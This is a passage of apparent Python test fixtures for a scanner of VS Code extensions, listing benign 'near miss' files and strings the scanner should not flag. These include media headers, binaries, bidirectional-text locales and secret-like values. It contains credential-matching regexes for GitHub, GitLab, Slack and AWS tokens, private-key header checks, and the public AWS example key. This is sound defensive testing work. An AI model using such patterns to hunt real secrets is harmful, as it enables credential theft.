    Near("a-dependency-on-the-editor", 15, manifest(extensionDependencies=["vscode.git"])),
    Near("an-empty-pack", 15, manifest(extensionPack=[], extensionDependencies=[])),
    Near("a-script-before-publishing", 19, manifest(scripts={"vscode:prepublish": "npm run build", "uninstall": "echo bye"})),
    Near("scripts-of-npm", 19, manifest(scripts={"preinstall": "node a.js", "postinstall": "node ./node_modules/vscode/bin/install"})),
    Near("java-itself", 12, manifest(publisher="redhat", name="java", displayName="Language Support for Java(TM) by Red Hat")),
    Near("eslint-itself", 12, manifest(publisher="dbaeumer", name="vscode-eslint", displayName="ESLint")),
    Near("snippets-for-a-framework", 12, manifest(name="react-bodekume-snippets", displayName="Bodekume Snippets for React")),
    Near("keys-with-a-main", 13, manifest(contributes={"keybindings": [{"key": "ctrl+k", "command": "x.y"}]})),
    Near("icons-without-a-main", 13, Plant(manifest={"main": None, "browser": None, "activationEvents": None, "contributes": _ICONS, "categories": ["Themes"]}, files=_ICON_FILES)),
    Near("no-activation", 14, manifest(activationEvents=[])),
)  # fmt: skip

_NO_FILE: tuple[Near, ...] = (
    Near("a-picture", 16, file("media/logo.png", _PNG)),
    Near("a-photograph", 16, file("media/back.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(120))),
    Near("an-animation", 16, file("media/wait.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(40))),
    Near("a-font", 16, file("media/text.woff2", b"wOF2\x00\x01\x00\x00" + bytes(120))),
    Near("a-font-of-the-old-form", 16, file("media/text.ttf", b"\x00\x01\x00\x00\x00\x0c" + bytes(120))),
    Near("a-drawing", 16, file("media/logo.svg", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>\n')),
    Near("an-icon", 16, file("media/app.ico", b"\x00\x00\x01\x00\x01\x00\x10\x10" + bytes(60))),
    Near("a-picture-left-in-large-storage", 16, file("media/logo.png", f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 1234\n")),
    Near("an-empty-picture", 16, file("media/none.png", b"")),
    Near("a-picture-with-script-words", 16, file("media/meta.png", _PNG + b"tEXtComment\x00require function eval(atob(" + bytes(16))),
    Near("a-native-package", 17, file("node_modules/example/build/Release/example.node", _ELF)),
    Near("a-program-of-a-package", 17, file("node_modules/@example/tool-linux-x64/bin/tool", _ELF)),
    Near("a-text-that-begins-with-mz", 17, file("notes.txt", "MZ is how such programs begin.\n")),
    Near("a-module-of-web-assembly", 17, file("dist/parser.wasm", b"\x00asm\x01\x00\x00\x00" + bytes(60))),
    Near("a-picture-of-the-web", 16, file("media/back.webp", b"RIFF\x40\x00\x00\x00WEBPVP8 " + bytes(60))),
    Near("a-font-of-postscript", 16, file("media/text.otf", b"OTTO\x00\x0c" + bytes(60))),
    Near("a-sound", 16, file("media/done.mp3", b"ID3\x04\x00\x00" + bytes(60))),
    Near("a-script-in-bin", 17, file("bin/tool", "#!/usr/bin/env node\nrequire('../dist/tool.js')\n")),
    Near("an-archive-of-java", 17, file("server/tool.jar", b"PK\x03\x04\x14\x00" + bytes(60))),
    Near("a-program-of-a-nested-package", 17, file("server/node_modules/example/bin/tool.exe", _PE)),
)  # fmt: skip

_NO_OBFUSCATION: tuple[Near, ...] = (
    Near("twelve-obfuscated-names", 18, file("dist/extra.js", _obfuscated(12))),
    Near("hexadecimal-numbers", 18, code("var x0=[" + ",".join(f"0x{n:x}" for n in range(0x4100, 0x4180)) + "];")),
    Near("names-with-an-underscore-and-an-x", 18, code("".join(f"var _x{n}={n};" for n in range(40)))),
    Near("spaces-at-the-end-of-a-line", 18, code("var x1=1;" + " " * 300 + "\n")),
    Near("spaces-in-a-string", 18, code(f'var x2="{" " * 256}";')),
    Near("a-wide-table", 18, file("README.md", "| a" + " " * 260 + "| b |\n|---|---|\n| 1 | 2 |\n")),
    Near("spaces-before-a-closing-comment", 18, code("/* aligned" + " " * 230 + "*/\n")),
    Near("escapes-of-control-characters", 18, code("var x3=/[" + "".join(f"\\x{b:02x}" for b in range(32)) + "]/g;")),
    Near("a-long-text-in-base64", 18, element(f'"{body(4000)}"')),
    Near("names-of-a-counter", 18, code("".join(f"var $_{n}={n},__{n}x=0x{n:x};" for n in range(30)))),
    Near("deep-indentation", 18, file("dist/deep.js", "function f() {\n" + "".join(f"{' ' * n}g({n});\n" for n in range(0, 160, 4)) + "}\n")),
)  # fmt: skip

_NO_BIDI: tuple[Near, ...] = (
    Near("marks-in-a-locale", 20, file("package.nls.he.json", '{"title":"\u200f\u05e9\u05dc\u05d5\u05dd\u200e (hello)"}\n')),
    Near("isolates-in-a-locale", 20, file("l10n/bundle.l10n.ar.json", '{"Hello {0}":"\u0645\u0631\u062d\u0628\u0627 \u2068{0}\u2069"}\n')),
    Near("arabic-in-a-string", 20, element('"\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645"')),
    Near("a-mark-in-a-string", 20, element('"\u05e9\u05dc\u05d5\u05dd\u200f!"')),
    Near("a-pattern-of-controls", 20, code(r"var y0=/[\u202A-\u202E\u2066-\u2069\u200E\u200F]/g;")),
    Near("an-escaped-isolate", 20, code(r'var y1="\u2068"+n0+"\u2069";')),
    Near("isolates-in-the-documentation", 20, file("README.md", "# \u05db\u05dc\u05d9\u05dd\n\n\u2067VS Code\u2069 \u05d5\u05e2\u05d5\u05d3\n")),
    Near("hebrew-in-a-comment", 20, code("/* \u05e9\u05dc\u05d5\u05dd \u05e2\u05d5\u05dc\u05dd */")),
)  # fmt: skip

_NO_SECRET: tuple[Near, ...] = (
    Near("the-example-of-aws", 21, element('"' + "AKIA" + "IOSFODNN7" + 'EXAMPLE"')),
    Near("a-prefix-of-aws-too-short", 21, element('"' + "AKIA" + 'QWERTY"')),
    Near("a-prefix-of-github-too-short", 21, element('"' + "ghp_" + 'abc123"')),
    Near("a-placeholder-of-github", 21, element('"' + "ghp_" + "x" * 36 + '"')),
    Near("a-pattern-of-github", 21, code(r"var i0=/gh[pousr]_[A-Za-z0-9_]{36,251}/;")),
    Near("a-placeholder-of-slack", 21, element('"' + "xoxb-" + 'your-token-here"')),
    Near("settings-of-npm", 21, code("var i1=process.env.npm_config_registry||process.env.npm_package_config_registry_of_the_house;")),
    Near("a-public-key", 21, code("var i2=`" + _pem("PUBLIC KEY") + "`;")),
    Near("a-certificate", 21, file("keys/server.crt", _pem("CERTIFICATE"))),
    Near("a-header-that-is-looked-for", 21, code('var i3=s0.indexOf("-----BEGIN RSA ' + 'PRIVATE KEY-----")>=0;')),
    Near("headers-of-a-parser", 21, code("var i4={pkcs8:'-----BEGIN " + "PRIVATE KEY-----',sec1:'-----BEGIN EC " + "PRIVATE KEY-----'};")),
    Near("an-npmrc-with-a-variable", 21, file(".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")),
    Near("an-npmrc-without-a-token", 21, file(".npmrc", "save-exact=true\nregistry=https://registry.npmjs.org/\n")),
    Near("an-example-of-an-env-file", 21, file(".env.example", "API_KEY=\nDB_PASSWORD=changeme\n")),
    Near("a-checksum", 21, element(f'"sha512-{body(86)}=="')),
    Near("a-uuid", 21, element(f'"{_UUID}"')),
    Near("a-long-identifier", 21, code(f"var npm_{'a' * 12}=1,sk_live_mode=!0;")),
    Near("a-test-key-of-stripe-without-a-body", 21, element('"sk_test_..."')),
    Near("a-template-of-an-env-file", 21, file(".env.template", "API_KEY=<your key>\n")),
    Near("classes-of-a-style-sheet", 21, element('"sk-loading-spinner-container-with-a-wide-border-and-shadow"')),
    Near("a-pattern-of-gitlab-and-slack", 21, code(r"var i5=/glpat-[\w-]{20}|xox[abp]-[\w-]{10,}|AKIA[0-9A-Z]{16}/;")),
    Near("a-key-for-checking", 21, file("keys/id_ed25519.pub", f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{body(43)} someone@example.com\n")),
    Near("a-request-for-a-certificate", 21, file("keys/server.csr", _pem("CERTIFICATE REQUEST"))),
    Near("letters-inside-a-checksum", 21, element(f'"sha512-{body(20)}' + "AKIA" + f'{body(62)}=="')),
    Near("an-address-with-a-placeholder", 21, element('"https://x-access-token:${token}@github.com/example/example.git"')),
)  # fmt: skip

NEAR_MISSES: tuple[Near, ...] = (
    *_NO_INVISIBLE,
    *_NO_DECODER,
    *_NO_DYNAMIC,
    *_NO_FETCH,
    *_NO_SINK,
    *_NO_CHAIN,
    *_NO_THEFT,
    *_NO_SPREAD,
    *_NO_REMOTE,
    *_NO_NAME,
    *_NO_FILE,
    *_NO_OBFUSCATION,
    *_NO_BIDI,
    *_NO_SECRET,
)

CASES: tuple[Shape | Near, ...] = (*SHAPES, *NEAR_MISSES)
